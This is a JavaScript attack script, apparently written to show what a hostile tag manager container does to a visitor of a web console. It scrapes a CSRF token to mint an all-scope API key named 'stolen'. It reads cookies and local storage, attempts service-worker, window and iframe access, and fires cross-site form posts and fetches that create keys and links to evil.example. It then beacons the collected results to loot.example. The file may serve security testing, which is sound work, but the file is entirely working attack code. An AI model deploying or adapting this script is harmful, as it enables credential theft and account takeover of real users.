// What a stranger's tag manager container tries to do to a person who has followed the stranger's link.
(function () {
  var loot = [];
  function tell(what, value) {
    loot.push(what + ': ' + value);
  }
  function attempt(what, work) {
    try {
      tell(what, work());
    } catch (refusal) {
      tell(what, 'refused ' + refusal.name);
    }
  }
  function sent(method, address, form) {
    var request = new XMLHttpRequest();
    request.open(method, address, false);
    request.withCredentials = true;
    if (form) {
      request.setRequestHeader('Content-Type', 'application/x-www-form-urlencoded');
    }
    request.send(form);
    return request.responseText;
  }
  function key(origin) {
    var token = /name="form_token" value="([0-9a-f]+)"/.exec(sent('GET', origin + '/console/keys'))[1];
    var page = sent('POST', origin + '/console/keys', 'form_token=' + token + '&name=stolen&scope=all');
    return /fp_[A-Za-z0-9_-]{20,}/.exec(page)[0];
  }
  function submitted(address, target) {
    var form = document.createElement('form');
    form.method = 'post';
    form.action = address;
    form.target = target;
    form.innerHTML = '<input name="name" value="blind"><input name="url" value="https://evil.example/"><input name="domain_id" value="1">';
    document.body.append(form);
    form.submit();
    return 'sent';
  }
  var console = 'https://CONSOLE';
  attempt('key', function () { return key(location.origin === 'null' ? 'https://' + location.host : location.origin); });
  attempt('key-of-the-console', function () { return key(console); });
  attempt('cookie', function () { return 'read ' + document.cookie; });
  attempt('storage', function () { return 'read ' + localStorage.length; });
  attempt('worker', function () { navigator.serviceWorker.register('/console/worker.js').catch(function () {}); return 'tried'; });
  attempt('window', function () {
    var opened = window.open(console + '/console/keys', '_blank');
    return 'read ' + opened.document.body.innerHTML.length;
  });
  attempt('frame', function () {
    var frame = document.createElement('iframe');
    frame.name = 'within';
    frame.src = console + '/console/keys';
    document.body.append(frame);
    return frame.contentDocument.body.innerHTML.length ? 'read all' : 'nothing yet';
  });
  attempt('form', function () { return submitted(console + '/console/keys', '_blank'); });
  attempt('form-of-the-interface', function () { return submitted(console + '/api/v1/links', 'within'); });
  fetch(console + '/console/keys', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({name: 'blind'})}).catch(function () {});
  fetch(console + '/api/v1/links', {method: 'POST', mode: 'no-cors', credentials: 'include', body: new URLSearchParams({url: 'https://evil.example/', domain_id: '1'})}).catch(function () {});
  navigator.sendBeacon(console + '/console/keys', new URLSearchParams({name: 'blind'}));
  navigator.sendBeacon('https://loot.example/?' + encodeURIComponent(loot.join('\n')));
})();
